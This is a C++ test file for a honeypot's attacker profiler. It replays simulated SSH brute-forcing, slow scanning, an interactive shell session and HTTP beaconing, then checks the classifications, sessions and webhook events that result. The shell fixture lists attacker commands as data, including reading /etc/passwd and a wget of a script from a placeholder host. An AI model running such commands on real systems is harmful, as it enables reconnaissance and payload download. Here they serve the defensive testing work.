@@ -1,0 +1,238 @@
+// The profiler as `decnet serve` runs it: a replayed fixture of four attackers — a brute-forcer,
+// a slow scanner, an interactive shell and a beacon — sent over TCP with their own timestamps,
+// then read back over the API (sessions, behaviour class, score) and from a webhook receiver
+// subscribed to attacker events (session started / ended, exactly one attacker.scored).
+#include <gtest/gtest.h>
+
+#include <cstdio>
+#include <nlohmann/json.hpp>
+
+#include "serve_support.h"
+#include "webhook_receiver.h"
+
+namespace decnet::app {
+namespace {
+
+using namespace decnet::testing;
+using nlohmann::json;
+
+constexpr std::int64_t kBase = 1'777'700'000;  // 2026-05-02, seconds
+
+std::string at(double offset_s) {
+  const auto micros = static_cast<std::int64_t>(offset_s * 1e6 + 0.5);
+  const std::time_t seconds = kBase + micros / 1'000'000;
+  std::tm tm{};
+  gmtime_r(&seconds, &tm);
+  char buf[64];
+  std::snprintf(buf, sizeof buf, "%04d-%02d-%02dT%02d:%02d:%02d.%06lld+00:00", tm.tm_year + 1900,
+                tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec,
+                static_cast<long long>(micros % 1'000'000));
+  return buf;
+}
+
+std::string line(double t, const std::string& decky, const std::string& app,
+                 const std::string& msgid, const std::string& sd) {
+  return "<134>1 " + at(t) + " " + decky + " " + app + " - " + msgid + " [relay@55555 " + sd + "]";
+}
+
+// The fixture: which attacker does what, and when (seconds from kBase).
+std::vector<std::string> fixture() {
+  std::vector<std::string> lines;
+  // 203.0.113.10 tries ten passwords over SSH, half a second apart.
+  for (int i = 0; i < 10; ++i) {
+    lines.push_back(line(i * 0.5, "decky-01", "auth-helper", "auth_attempt",
+                         "username=\"root\" principal=\"root\" secret_printable=\"pw" +
+                             std::to_string(i) + "\" src_ip=\"203.0.113.10\""));
+  }
+  // 203.0.113.20 touches three services of a decky, one every fifteen seconds.
+  const char* services[] = {"ftp", "postgres", "smtp"};
+  for (int i = 0; i < 6; ++i) {
+    lines.push_back(line(100 + i * 15, "decky-02", services[i % 3], "connection",
+                         "src_ip=\"203.0.113.20\" src_port=\"4000" + std::to_string(i) + "\""));
+  }
+  // 203.0.113.30 logs in and types: a connection, nine commands, a disconnect, all in session s1.
+  const double typed[] = {0, .2, .5, 1, 5, 5.1, 5.3, 10, 10.1, 10.2, 12};
+  const char* commands[] = {"uname -a", "id", "whoami", "cat /etc/passwd",           "ps aux",
+                            "ls -la",   "w",  "uptime", "wget http://x.example/a.sh"};
+  for (std::size_t i = 0; i < std::size(typed); ++i) {
+    const double t = 200 + typed[i];
+    const std::string sid = "sid=\"s1\" src_ip=\"203.0.113.30\"";
+    if (i == 0) {
+      lines.push_back(line(t, "decky-03", "ssh", "connect", sid));
+    } else if (i + 1 == std::size(typed)) {
+      lines.push_back(line(t, "decky-03", "ssh", "disconnect", sid));
+    } else {
+      lines.push_back(
+          line(t, "decky-03", "ssh", "command", sid + " command=\"" + commands[i - 1] + "\""));
+    }
+  }
+  // 203.0.113.40 calls home every minute, give or take three seconds.
+  for (int i = 0; i < 10; ++i) {
+    lines.push_back(line(400 + i * 60 + (i % 2 ? 3 : -3), "web-01", "http", "request",
+                         "method=\"GET\" path=\"/beacon\" remote_addr=\"203.0.113.40\""));
+  }
+  return lines;
+}
+
+json attacker_by_ip(ServeProcess& serve, const std::string& ip) {
+  const auto page = serve.api("GET", "/api/v1/attackers?search=" + ip);
+  if (page.status != 200 || page.body["data"].empty()) return nullptr;
+  return page.body["data"][0];
+}
+
+TEST(ServeProfiler, FixtureYieldsFourClassesSessionsAndOneScore) {
+  WebhookReceiver receiver;
+  ServeProcess serve(
+      {{"DECNET_PROFILER_SCORE_THRESHOLDS", "50"}, {"DECNET_WEBHOOK_ALLOW_PRIVATE", "true"}});
+  ASSERT_TRUE(serve.wait_ready()) << serve.output();
+  const auto created = serve.api(
+      "POST", "/api/v1/webhooks",
+      json{{"name", "siem"}, {"url", receiver.url()}, {"simple_events", {"AttackerDetail"}}}
+          .dump());
+  ASSERT_EQ(created.status, 201) << created.raw;
+  // The webhook worker picks the subscription up on its announcement: wait until a probe
+  // attacker's attacker.observed arrives before sending the fixture.
+  const auto delivered = [&](std::string_view topic, std::string_view needle) {
+    std::size_t n = 0;
+    for (const auto& r : receiver.requests()) {
+      const auto it = r.headers.find("x-decnet-event-topic");
+      if (it != r.headers.end() && it->second == topic &&
+          r.body.find(needle) != std::string::npos) {
+        ++n;
+      }
+    }
+    return n;
+  };
+  ASSERT_TRUE(wait_until([&] {
+    TcpClient probe(serve.tcp_port());
+    probe.send(octet_frame(line(0, "decky-09", "ftp", "connection", "src_ip=\"192.0.2.99\"")));
+    return delivered("attacker.observed", "192.0.2.99") > 0;
+  })) << serve.output();
+
+  TcpClient client(serve.tcp_port());
+  std::string stream;
+  for (const auto& l : fixture()) stream += octet_frame(l);
+  ASSERT_TRUE(client.send(stream));
+
+  const std::map<std::string, std::string> expected = {{"203.0.113.10", "brute_force"},
+                                                       {"203.0.113.20", "slow_scan"},
+                                                       {"203.0.113.30", "interactive"},
+                                                       {"203.0.113.40", "beaconing"}};
+  for (const auto& [ip, behavior_class] : expected) {
+    SCOPED_TRACE(ip);
+    json attacker;
+    ASSERT_TRUE(wait_until([&] {
+      attacker = attacker_by_ip(serve, ip);
+      return attacker.is_object() && attacker["behavior_class"] == behavior_class;
+    })) << attacker.dump()
+        << serve.output();
+  }
+
+  // The shell: one session, logged in, its nine commands in order, ended by its disconnect.
+  const auto shell = attacker_by_ip(serve, "203.0.113.30");
+  json sessions;
+  ASSERT_TRUE(wait_until([&] {
+    sessions =
+        serve.api("GET", "/api/v1/attackers/" + shell["uuid"].get<std::string>() + "/sessions")
+            .body;
+    return sessions.is_object() && sessions["total"] == 1 && sessions["data"][0]["open"] == false;
+  })) << sessions.dump();
+  const auto& s = sessions["data"][0];
+  EXPECT_EQ(s["session_id"], "s1");
+  EXPECT_EQ(s["service"], "ssh");
+  EXPECT_EQ(s["outcome"], "logged_in");
+  EXPECT_EQ(s["end_reason"], "end_event");
+  EXPECT_EQ(s["event_count"], 11);
+  EXPECT_EQ(s["command_count"], 9);
+  EXPECT_DOUBLE_EQ(s["duration_s"].get<double>(), 12.0);
+  ASSERT_EQ(s["commands"].size(), 9u);
+  EXPECT_EQ(s["commands"][0]["command"], "uname -a");
+  EXPECT_EQ(s["commands"][8]["command"], "wget http://x.example/a.sh");
+  const auto one = serve.api("GET", "/api/v1/sessions/" + s["uuid"].get<std::string>());
+  ASSERT_EQ(one.status, 200) << one.raw;
+  EXPECT_EQ(one.body["events_total"], 11);
+  EXPECT_EQ(serve.api("GET", "/api/v1/sessions/0190c5a0-0000-7000-8000-000000000001").status, 404);
+  EXPECT_EQ(serve.api("GET", "/api/v1/sessions/not-a-session").status, 422);
+
+  // The slow scanner's connections are sessions too, closed by silence later: three opened.
+  const auto scanner = attacker_by_ip(serve, "203.0.113.20");
+  EXPECT_TRUE(wait_until([&] {
+    return serve.api("GET", "/api/v1/attackers/" + scanner["uuid"].get<std::string>() + "/sessions")
+               .body["total"] == 6;
+  }));
+  // The brute-forcer's attempts carry no session id and open no connection: no session.
+  const auto brute = attacker_by_ip(serve, "203.0.113.10");
+  EXPECT_EQ(serve.api("GET", "/api/v1/attackers/" + brute["uuid"].get<std::string>() + "/sessions")
+                .body["total"],
+            0);
+
+  // Detail: the shell's behaviour with its reasons and phases.
+  const auto detail = serve.api("GET", "/api/v1/attackers/" + shell["uuid"].get<std::string>());
+  ASSERT_EQ(detail.status, 200);
+  const auto& behaviour = detail.body["behaviour"];
+  EXPECT_EQ(behaviour["behavior_class"], "interactive");
+  EXPECT_GE(behaviour["score"].get<int>(), 50);
+  EXPECT_FALSE(behaviour["reasons"].empty());
+  bool execution = false;
+  for (const auto& p : behaviour["phases"]) execution = execution || p["phase"] == "execution";
+  EXPECT_TRUE(execution) << behaviour.dump();
+  const auto beacon = attacker_by_ip(serve, "203.0.113.40");
+  const auto beacon_detail =
+      serve.api("GET", "/api/v1/attackers/" + beacon["uuid"].get<std::string>());
+  EXPECT_NEAR(beacon_detail.body["behaviour"]["beacon_interval_s"].get<double>(), 60.0, 1.0);
+
+  // Filter and order.
+  const auto brute_list = serve.api("GET", "/api/v1/attackers?behavior_class=brute_force");
+  ASSERT_EQ(brute_list.body["total"], 1) << brute_list.raw;
+  EXPECT_EQ(brute_list.body["data"][0]["ip"], "203.0.113.10");
+  const auto by_score = serve.api("GET", "/api/v1/attackers?sort=score&limit=1");
+  EXPECT_EQ(by_score.body["data"][0]["ip"], "203.0.113.30");
+  EXPECT_EQ(serve.api("GET", "/api/v1/attackers?behavior_class=wizard").status, 422);
+
+  // Events: the shell's session started and ended, and one score crossing in the whole run.
+  ASSERT_TRUE(wait_until([&] {
+    return delivered("attacker.session.ended", "203.0.113.30") == 1 &&
+           delivered("attacker.scored", "203.0.113") >= 1;
+  })) << serve.output();
+  EXPECT_EQ(delivered("attacker.session.started", "203.0.113.30"), 1u);
+  EXPECT_EQ(delivered("attacker.scored", "203.0.113"), 1u);
+  EXPECT_EQ(delivered("attacker.scored", "203.0.113.30"), 1u);
+}
+
+TEST(ServeProfiler, OpenSessionsSurviveARestart) {
+  ServeProcess serve;
+  ASSERT_TRUE(serve.wait_ready()) << serve.output();
+  {
+    TcpClient client(serve.tcp_port());
+    ASSERT_TRUE(client.send(
+        octet_frame(line(0, "decky-01", "ftp", "connection", "src_ip=\"203.0.113.77\""))));
+  }
+  json attacker;
+  ASSERT_TRUE(wait_until([&] {
+    attacker = attacker_by_ip(serve, "203.0.113.77");
+    return attacker.is_object() &&
+           serve.api("GET",
+                     "/api/v1/attackers/" + attacker["uuid"].get<std::string>() + "/sessions")
+                   .body["total"] == 1;
+  })) << serve.output();
+  serve.restart();
+  ASSERT_TRUE(serve.wait_ready()) << serve.output();
+  {
+    TcpClient client(serve.tcp_port());
+    ASSERT_TRUE(client.send(
+        octet_frame(line(5, "decky-01", "ftp", "disconnect", "src_ip=\"203.0.113.77\""))));
+  }
+  json sessions;
+  ASSERT_TRUE(wait_until([&] {
+    sessions =
+        serve.api("GET", "/api/v1/attackers/" + attacker["uuid"].get<std::string>() + "/sessions")
+            .body;
+    return sessions["total"] == 1 && sessions["data"][0]["open"] == false;
+  })) << sessions.dump()
+      << serve.output();
+  EXPECT_EQ(sessions["data"][0]["event_count"], 2);
+  EXPECT_EQ(sessions["data"][0]["end_reason"], "end_event");
+}
+
+}  // namespace
+}  // namespace decnet::app
